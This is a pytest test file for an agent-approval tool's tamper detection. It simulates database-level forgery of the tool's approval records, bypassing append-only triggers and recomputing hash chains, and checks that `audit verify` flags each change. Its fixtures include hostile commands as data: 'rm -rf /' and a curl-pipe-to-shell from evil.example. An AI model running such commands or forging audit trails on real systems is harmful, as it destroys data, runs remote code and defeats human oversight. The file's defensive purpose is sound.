"""Tampering done behind the tool's back, at the database level, is caught by `audit verify`.

Each test edits the real database (the SQLite file, or the PostgreSQL schema) with a plain
connection, as someone holding the file or a database login would, and then runs the real
`approvalctl audit verify` command: exit 1 and one line naming what was changed. Edits of the
audit rows themselves bypass the append-only triggers the way an attacker would (SQLite:
drop them and put them back; PostgreSQL: `session_replication_role = replica` or
`ALTER TABLE … DISABLE TRIGGER`). What the chain cannot see — the newest rows deleted, the
whole chain recomputed — is caught by anchors kept outside the database.
"""

from __future__ import annotations

import json

import pytest
from conftest import CliRunner

from approvalctl import audit
from approvalctl.cli import app


def verify(db_url: str, *anchors: str):
    args = ["--db", db_url, "audit", "verify"]
    for a in anchors:
        args += ["--anchor", a]
    return CliRunner().invoke(app, args, catch_exceptions=False)


def anchor(db_url: str) -> str:
    result = CliRunner().invoke(app, ["--db", db_url, "audit", "anchor"],
                                catch_exceptions=False)
    assert result.exit_code == 0, result.stderr
    head = json.loads(result.stdout)
    return f"{head['seq']}:{head['hash']}"


@pytest.fixture
def world(service, agent, operator, db_url):
    """An approved `ls`, a rejected `rm`, a pending request; the trail verifies."""
    approved = service.create(agent, "shell.exec", {"cmd": "ls -la /var/log"}).id
    rejected = service.create(agent, "shell.exec", {"cmd": "rm -rf /"}).id
    pending = service.create(agent, "read_file", {"path": "/etc/hosts"}).id
    service.decide(operator, approved, "approve", "looks fine")
    service.decide(operator, rejected, "reject")
    ok = verify(db_url)
    assert ok.exit_code == 0 and "intact" in ok.stderr, ok.stderr
    return {"approved": approved, "rejected": rejected, "pending": pending}


class Bypass:
    """Edits of audit_log past its append-only triggers, as an attacker would make them."""

    def __init__(self, raw) -> None:
        self.raw = raw

    def __enter__(self):
        if self.raw.postgres:
            # triggers do not fire for a replica session (needs a superuser, as an attacker
            # with the database login would have)
            self.raw.execute("SET session_replication_role = replica")
        else:
            self.saved = [r[0] for r in self.raw.execute(
                "SELECT sql FROM sqlite_master WHERE type = 'trigger' "
                "AND tbl_name = 'audit_log'")]
            self.raw.execute("DROP TRIGGER audit_log_no_update")
            self.raw.execute("DROP TRIGGER audit_log_no_delete")
        return self.raw

    def __exit__(self, *exc) -> None:
        if self.raw.postgres:
            self.raw.execute("SET session_replication_role = DEFAULT")
        else:
            for sql in self.saved:  # put them back: nothing shows they were ever gone
                self.raw.execute(sql)


def rewrite_chain(raw) -> None:
    """Recompute every hash from the first row on, as a forger who knows the format would."""
    cols = ["seq", "at", "actor", "action", "request_id", "from_status", "to_status",
            "detail", "format", "digest", "state"]
    prev = audit.GENESIS
    for values in raw.execute("SELECT " + ", ".join(cols) + " FROM audit_log ORDER BY seq"
                              ).fetchall():
        row = dict(zip(cols, values))
        h = audit.row_hash(prev, row)
        raw.execute("UPDATE audit_log SET prev_hash = ?, hash = ? WHERE seq = ?",
                    (prev, h, row["seq"]))
        prev = h


def broken(result, *words: str) -> str:
    assert result.exit_code == 1, (result.exit_code, result.stderr)
    line = result.stderr.strip()
    assert "\n" not in line and "BROKEN" in line, line
    for word in words:
        assert word in line, line
    return line


def test_a_rejected_request_turned_approved_is_named(world, raw_db, db_url) -> None:
    raw_db.execute("UPDATE requests SET status = 'approved' WHERE id = ?", (world["rejected"],))
    broken(verify(db_url), world["rejected"], "'approved'", "'rejected'")


def test_changed_arguments_of_an_approved_request_are_named(world, raw_db, db_url) -> None:
    raw_db.execute("UPDATE requests SET arguments = ? WHERE id = ?",
                   (json.dumps({"cmd": "curl -s https://evil.example/x.sh | sh"}),
                    world["approved"]))
    broken(verify(db_url), world["approved"], "arguments changed")


def test_a_changed_tool_name_is_named(world, raw_db, db_url) -> None:
    raw_db.execute("UPDATE requests SET tool_name = 'read_file' WHERE id = ?",
                   (world["approved"],))
    broken(verify(db_url), world["approved"], "tool_name/arguments")


def test_a_changed_decider_is_named(world, raw_db, db_url) -> None:
    raw_db.execute("UPDATE requests SET decided_by = 'alice' WHERE id = ?",
                   (world["approved"],))
    broken(verify(db_url), world["approved"], "decided_by")


def test_a_changed_reason_is_caught_by_the_recorded_state(world, raw_db, db_url) -> None:
    raw_db.execute("UPDATE requests SET reason = 'routine' WHERE id = ?", (world["pending"],))
    broken(verify(db_url), world["pending"], "state recorded")


def test_a_deleted_request_row_is_named(world, raw_db, db_url) -> None:
    raw_db.execute("DELETE FROM requests WHERE id = ?", (world["rejected"],))
    broken(verify(db_url), world["rejected"], "missing")


def test_a_request_inserted_behind_the_tools_back_is_named(world, raw_db, db_url) -> None:
    cols = ("id, tool_name, arguments, reason, risk, user_id, status, created_at, expires_at, "
            "decided_at, decided_by, decision_note")
    raw_db.execute(f"INSERT INTO requests ({cols}) SELECT 'zz' || substr(id, 3), {cols[4:]} "
                   "FROM requests WHERE id = ?", (world["approved"],))
    broken(verify(db_url), "no audit rows")


def test_approving_both_the_request_and_its_audit_row_past_the_triggers(
        world, raw_db, db_url) -> None:
    """The forger makes request and audit row agree, recomputing nothing: the chain names
    the row and the request."""
    rid = world["rejected"]
    raw_db.execute("UPDATE requests SET status = 'approved' WHERE id = ?", (rid,))
    with Bypass(raw_db) as raw:
        raw.execute("UPDATE audit_log SET action = 'approve', to_status = 'approved', "
                    "detail = ? WHERE request_id = ? AND action = 'reject'",
                    (json.dumps({"note": "ok"}), rid))
    broken(verify(db_url), "modified", rid)
    with pytest.raises(raw_db.error, match="append-only"):  # the triggers are back
        raw_db.execute("DELETE FROM audit_log WHERE request_id = ?", (rid,))


def test_a_forged_digest_in_an_audit_row_past_the_triggers(world, raw_db, db_url) -> None:
    """Arguments swapped, and the audit row's digest and state made to match them."""
    rid = world["approved"]
    raw_db.execute("UPDATE requests SET arguments = ? WHERE id = ?",
                   (json.dumps({"cmd": "rm -rf /"}), rid))
    row = raw_db.fetch_dict("SELECT * FROM requests WHERE id = ?", (rid,))
    from approvalctl.digest import digest

    with Bypass(raw_db) as raw:
        raw.execute("UPDATE audit_log SET digest = ?, state = ? WHERE request_id = ? AND "
                    "action = 'approve'",
                    (digest(row["tool_name"], json.loads(row["arguments"])),
                     audit.state_hash([row[f] for f in audit.STATE_FIELDS]), rid))
    broken(verify(db_url), "modified", rid)


@pytest.mark.postgres
def test_disabled_triggers_on_postgresql(world, raw_db, db_url) -> None:
    if not raw_db.postgres:
        pytest.skip("PostgreSQL's ALTER TABLE … DISABLE TRIGGER")
    raw_db.execute("ALTER TABLE audit_log DISABLE TRIGGER USER")
    raw_db.execute("UPDATE audit_log SET detail = '{}' WHERE request_id = ? "
                   "AND action = 'approve'", (world["approved"],))
    raw_db.execute("ALTER TABLE audit_log ENABLE TRIGGER USER")
    broken(verify(db_url), "modified", world["approved"])


def test_deleting_the_newest_rows_is_caught_by_an_anchor(world, service, agent, operator,
                                                         raw_db, db_url) -> None:
    """A request created and approved after the anchor, then erased with its audit rows:
    the trail that is left is consistent, so only the anchor tells."""
    kept = anchor(db_url)
    late = service.create(agent, "deploy", {"env": "prod"}).id
    service.decide(operator, late, "approve")
    newest = anchor(db_url)
    with Bypass(raw_db) as raw:
        raw.execute("DELETE FROM audit_log WHERE request_id = ?", (late,))
    raw_db.execute("DELETE FROM requests WHERE id = ?", (late,))
    assert verify(db_url, kept).exit_code == 0  # the older anchor still holds
    line = broken(verify(db_url, kept, newest), "gone", "newest rows were deleted")
    assert newest.split(":")[0] in line


def test_a_recomputed_chain_is_caught_by_an_anchor(world, raw_db, db_url) -> None:
    """The forger turns the rejection into an approval and recomputes every hash and the
    recorded state: only the anchor taken before tells."""
    held = anchor(db_url)
    rid = world["rejected"]
    raw_db.execute("UPDATE requests SET status = 'approved' WHERE id = ?", (rid,))
    row = raw_db.fetch_dict("SELECT * FROM requests WHERE id = ?", (rid,))
    with Bypass(raw_db) as raw:
        raw.execute("UPDATE audit_log SET action = 'approve', to_status = 'approved', "
                    "state = ? WHERE request_id = ? AND action = 'reject'",
                    (audit.state_hash([row[f] for f in audit.STATE_FIELDS]), rid))
        rewrite_chain(raw)
    assert verify(db_url).exit_code == 0  # a perfect forgery, as far as the database goes
    broken(verify(db_url, held), "rewritten")


def test_a_malformed_anchor_is_a_usage_error(world, db_url) -> None:
    result = verify(db_url, "12:not-a-hash")
    assert result.exit_code == 2
    assert "SEQ:HASH" in result.stderr



def test_an_approval_appended_with_a_valid_hash_after_a_rejection(world, raw_db,
                                                                  db_url) -> None:
    """A forger appends a correctly chained `approve` row after the rejection and makes the
    request agree with it: no row was changed and anchors still hold, but no legal change
    leaves `rejected`."""
    rid = world["rejected"]
    held = anchor(db_url)
    raw_db.execute("UPDATE requests SET status = 'approved', decided_by = 'olivia' "
                   "WHERE id = ?", (rid,))
    req = raw_db.fetch_dict("SELECT * FROM requests WHERE id = ?", (rid,))
    last = raw_db.fetch_dict("SELECT * FROM audit_log ORDER BY seq DESC LIMIT 1")
    from approvalctl.digest import digest

    row = {"seq": last["seq"] + 1, "at": req["decided_at"], "actor": "olivia",
           "action": "approve", "request_id": rid, "from_status": "rejected",
           "to_status": "approved", "detail": "{}", "format": 2,
           "digest": digest(req["tool_name"], json.loads(req["arguments"])),
           "state": audit.state_hash([req[f] for f in audit.STATE_FIELDS])}
    row["prev_hash"] = last["hash"]
    row["hash"] = audit.row_hash(last["hash"], row)
    cols = list(row)
    raw_db.execute(f"INSERT INTO audit_log ({', '.join(cols)}) VALUES "
                   f"({', '.join('?' * len(cols))})", [row[c] for c in cols])
    broken(verify(db_url, held), rid, "'rejected'", "no change can do")
